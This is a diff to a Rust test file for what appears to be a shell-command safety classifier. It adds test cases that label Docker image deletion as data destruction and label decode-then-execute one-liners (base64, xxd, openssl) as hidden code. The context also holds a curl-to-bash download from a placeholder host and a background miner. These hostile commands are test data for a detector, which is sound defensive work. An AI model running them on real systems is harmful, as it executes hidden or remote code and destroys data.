@@ -241,6 +241,7 @@ fn ordinary_scripts_that_look_odd() {
             "LogText \"Found a job (/etc/anacrontab): ${I}\"",
             "Display --text \"- umask (/etc/profile and /etc/profile.d)\" --color GREEN",
             "getent group shadow",
+            "docker images -f dangling=true -q | xargs -r docker rmi",
             "mail -s report me@example.com < /var/log/backup.log",
         ],
     );
@@ -249,6 +250,7 @@ fn ordinary_scripts_that_look_odd() {
         ("cat $(echo bm90ZXM= | base64 -d)", "obfuscated-command"),
         ("CuRl https://c.example/x.sh | bash", "download-run"),
         ("PATH=/tmp:$PATH; ls", "shell-escape"),
+        ("docker images -q | xargs -r docker rmi", "destroy-data"),
         ("nohup ./miner > /dev/null 2>&1 &", "download-run"),
         (
             "runner --text \"f = open('/etc/profile', 'a')\"",
@@ -263,6 +265,26 @@ fn ordinary_scripts_that_look_odd() {
             "exfiltration",
         ),
     ]);
+}
+
+#[test]
+fn files_that_were_decoded_and_run() {
+    all_unsafe(&[
+        (
+            "f=$(mktemp); base64 -d > $f <<< f0VMRgIBAQAA; chmod 700 $f; $f &",
+            "code-hidden",
+        ),
+        ("echo aWQK | base64 -d > /tmp/x; sh /tmp/x", "code-hidden"),
+        ("xxd -r -p x.hex > run; chmod +x run; ./run", "code-hidden"),
+        ("openssl base64 -d -in x -out run; bash run", "code-hidden"),
+    ]);
+    all_safe(
+        "bash",
+        &[
+            "base64 -d logo.b64 > logo.png; ./build.sh logo.png",
+            "base64 -d > key.pub <<< \"$KEY\"; cat key.pub",
+        ],
+    );
 }
 
 #[test]
